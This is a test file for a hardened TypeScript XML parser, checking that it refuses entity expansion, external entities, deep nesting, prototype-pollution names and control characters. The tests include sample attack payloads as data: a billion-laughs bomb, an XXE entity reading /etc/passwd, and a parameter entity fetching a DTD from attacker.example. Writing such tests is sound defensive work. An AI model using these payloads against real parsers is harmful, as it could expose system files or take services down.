import { AppError } from '@formcast/platform';
import { elements, elementText, parseXml, rootElement } from '../../src/xml/parse-xml';

/** What parseXml throws for `text`: the AppError('invalid') every refusal must be. */
function refusal(text: string): AppError {
  try {
    parseXml(text);
  } catch (error) {
    expect(error).toBeInstanceOf(AppError);
    expect((error as AppError).code).toBe('invalid');
    return error as AppError;
  }
  throw new Error(`parseXml accepted ${JSON.stringify(text.slice(0, 80))}`);
}

const nested = (depth: number) => `${'<a>'.repeat(depth)}x${'</a>'.repeat(depth)}`;

describe('parseXml: hostile documents', () => {
  it.each([
    ['the billion laughs', '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;">]><groups>&lol2;</groups>'],
    ['an external entity (XXE)', '<!DOCTYPE groups [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><groups>&xxe;</groups>'],
    ['a parameter entity', '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><a/>'],
    ['a DOCTYPE without declarations', '<!DOCTYPE groups><groups/>'],
    ['a lowercase doctype', '<!doctype groups><groups/>'],
    ['a DOCTYPE after a comment', '<!-- hello --><!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>'],
    ['a DOCTYPE with spaces after <!', '<! DOCTYPE a><a/>'],
    ['an ENTITY declaration alone', '<a><!ENTITY x "y"></a>'],
    ['an ELEMENT declaration', '<!ELEMENT a ANY><a/>'],
    ['an ATTLIST declaration', '<!ATTLIST a b CDATA "c"><a/>'],
  ])('refuses %s before parsing', (_name, text) => {
    expect(refusal(text).message).toBe('XML with a DOCTYPE or entity declarations is not accepted');
  });

  it('never expands an entity: an undeclared one stays as written', () => {
    expect(parseXml('<a>&lol;</a>')).toEqual({ a: '&lol;' });
    expect(parseXml('<a b="&xxe;"/>')).toEqual({ a: { '@_b': '&xxe;' } });
  });

  it.each(['__proto__', 'constructor', 'prototype'])('refuses %s as an element name (prototype pollution)', (name) => {
    expect(refusal(`<a><${name}><polluted>1</polluted></${name}></a>`).message).toMatch(new RegExp(`^Malformed XML: .*"${name}"`));
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
  });

  it('never lets an element shadow an Object method', () => {
    const parsed = parseXml('<a><toString>1</toString><hasOwnProperty>2</hasOwnProperty></a>') as { a: Record<string, unknown> };
    expect(Object.getPrototypeOf(parsed.a)).toBe(Object.prototype);
    expect(Object.keys(parsed.a)).not.toContain('toString');
    expect(Object.keys(parsed.a)).not.toContain('hasOwnProperty');
    expect(parsed.a.toString).toBe(Object.prototype.toString);
  });
});

describe('parseXml: malformed documents', () => {
  it.each([
    ['an unclosed element', '<groups><group><name>x</group></groups>', /^Malformed XML: .*\(line 1\)$/],
    ['a closing tag that was never opened', '<a></b>', /^Malformed XML: /],
    ['an empty body', '', /^Malformed XML: /],
    ['text without an element', 'hello', /^Malformed XML: /],
    ['a repeated attribute', '<a x="1" x="2"/>', /^Malformed XML: Attribute 'x' is repeated/],
    ['an unquoted attribute', '<a x=1/>', /^Malformed XML: /],
    ['a bare ampersand', '<a>fish & chips</a>', /^Malformed XML: /],
    ['a character reference past Unicode', '<a>&#x110000;</a>', /^Malformed XML: &#x110000; is not a character$/],
    ['two root elements', '<groups><group>a</group></groups><other><group>b</group></other>', /^Malformed XML: /],
    // Where the validator lets a second root through: not a list whose items go unread.
    ['a second root after an empty one', '<groups/><groups><group>b</group></groups>', /^Malformed XML: more than one root element$/],
    ['an empty second root', '<groups><group>a</group></groups><other/>', /^Malformed XML: more than one root element$/],
  ])('refuses %s', (_name, text, message) => {
    expect(refusal(text).message).toMatch(message);
  });

  it('names the line of the fault', () => {
    expect(refusal('<groups>\n  <group>\n    <name>x</nam>\n  </group>\n</groups>').message).toMatch(/\(line 3\)$/);
  });
});

describe('parseXml: nesting limit', () => {
  it('parses 32 levels, the most any request of this API needs', () => {
    let node: unknown = parseXml(nested(32));
    for (let level = 0; level < 32; level += 1) node = (node as { a: unknown }).a;
    expect(node).toBe('x');
  });

  it.each([33, 200, 100_000])('refuses %i levels, quickly', (depth) => {
    const started = Date.now();
    expect(refusal(nested(depth)).message).toBe('Malformed XML: Maximum nested tags exceeded');
    expect(Date.now() - started).toBeLessThan(2000);
  });
});

describe('parseXml: text XML cannot carry', () => {
  it.each([
    ['a raw control character', '<groups><group><name>a\u0007b</name></group></groups>', 'groups.group.name: contains a character XML cannot carry (U+0007)'],
    ['a character reference to NUL', '<groups><group><name>&#0;</name></group></groups>', 'groups.group.name: contains a character XML cannot carry (U+0000)'],
    ['a hexadecimal reference to U+001F', '<a><b>x&#x1f;</b></a>', 'a.b: contains a character XML cannot carry (U+001F)'],
    ['a reference to a lone surrogate', '<a>&#xD800;</a>', 'a: contains a character XML cannot carry (U+D800, a lone surrogate)'],
    ['U+FFFE', '<a>\uFFFE</a>', 'a: contains a character XML cannot carry (U+FFFE)'],
    ['a reference to U+FFFF in an attribute', '<a><b k="&#xFFFF;">x</b></a>', 'a.b@k: contains a character XML cannot carry (U+FFFF)'],
    ['one of several repeated elements', '<a><b>ok</b><b>&#8;</b></a>', 'a.b[1]: contains a character XML cannot carry (U+0008)'],
    ['text beside child elements', '<a><b>ok</b>&#1;</a>', 'a: contains a character XML cannot carry (U+0001)'],
  ])('refuses %s, naming its element', (_name, text, message) => {
    expect(refusal(text).message).toBe(message);
  });

  it('keeps TAB, LF and CR, by reference or raw, and every other character', () => {
    expect(parseXml('<a><b>x&#9;y&#10;z&#13;</b><c>\u00e9\ud83d\ude0a\uFFFD</c></a>')).toEqual({ a: { b: 'x\ty\nz\r', c: 'é😊\uFFFD' } });
  });
});

describe('parseXml: values', () => {
  it('keeps text as strings: no number, boolean or hex coercion, leading zeros kept', () => {
    expect(parseXml('<a n="007" t="true"><b>007</b><c>1e3</c><d>true</d><e>0x1F</e><f>-0</f><g>12.50</g></a>')).toEqual({
      a: { '@_n': '007', '@_t': 'true', b: '007', c: '1e3', d: 'true', e: '0x1F', f: '-0', g: '12.50' },
    });
  });

  it('trims text, and an empty element is the empty string', () => {
    expect(parseXml('\n  <a>\n  <b>  spaced  </b><c/><d></d></a>\n')).toEqual({ a: { b: 'spaced', c: '', d: '' } });
  });

  it('decodes the predefined entities and character references, once', () => {
    expect(parseXml('<a>&lt;&gt;&amp;&quot;&apos;</a>')).toEqual({ a: `<>&"'` });
    expect(parseXml('<a>Caf&#233; &#xE9;t&#xe9; &#x1F60A;</a>')).toEqual({ a: 'Café été 😊' });
    expect(parseXml('<a b="&#60;&#x26;&lt;">x</a>')).toEqual({ a: { '#text': 'x', '@_b': '<&<' } });
    // An escaped ampersand gives the text of a reference, not the character.
    expect(parseXml('<a>&amp;#65; &amp;lt;</a>')).toEqual({ a: '&#65; &lt;' });
  });

  it('keeps CDATA as written', () => {
    expect(parseXml('<a><![CDATA[<b>&amp;</b>]]></a>')).toEqual({ a: '<b>&amp;</b>' });
  });

  it('drops the declaration and processing instructions, keeps attributes and namespaced names', () => {
    expect(parseXml('\uFEFF<?xml version="1.0" encoding="UTF-8"?><?app do-something?><a xmlns:p="urn:p" k="v"><p:b>1</p:b></a>')).toEqual({
      a: { '@_xmlns:p': 'urn:p', '@_k': 'v', 'p:b': '1' },
    });
  });

  it('gives a repeated element as a list, in order', () => {
    expect(parseXml('<a><b>1</b><c>x</c><b>2</b></a>')).toEqual({ a: { b: ['1', '2'], c: 'x' } });
  });
});

describe('rootElement, elements, elementText', () => {
  it('takes the one root by name, or refuses', () => {
    expect(rootElement(parseXml('<groups><group>x</group></groups>'), 'groups')).toEqual({ group: 'x' });
    expect(rootElement(parseXml('<?xml version="1.0"?><groups/>'), 'groups')).toEqual({});
    expect(rootElement(parseXml('<groups>text only</groups>'), 'groups')).toEqual({});
    expect(() => rootElement(parseXml('<group/>'), 'groups')).toThrow(new AppError('invalid', 'XML root element must be <groups>'));
  });

  it('lists an element given once, many times or not at all', () => {
    expect(elements(undefined)).toEqual([]);
    expect(elements('x')).toEqual(['x']);
    expect(elements(['x', 'y'])).toEqual(['x', 'y']);
  });

  it('reads an element as text, with or without attributes (one with children has none), and refuses a repeated one', () => {
    const { a } = parseXml('<a><t type="integer">5</t><plain>p</plain><empty/><typedEmpty nil="true"/><nested><x>1</x></nested></a>') as {
      a: Record<string, unknown>;
    };
    expect(elementText(a['t'], 't')).toBe('5');
    expect(elementText(a['plain'], 'plain')).toBe('p');
    expect(elementText(a['empty'], 'empty')).toBe('');
    expect(elementText(a['typedEmpty'], 'typedEmpty')).toBe('');
    expect(elementText(a['nested'], 'nested')).toBe('');
    expect(() => elementText(['1', '2'], 'name')).toThrow(new AppError('invalid', 'name: must be a text element'));
  });
});
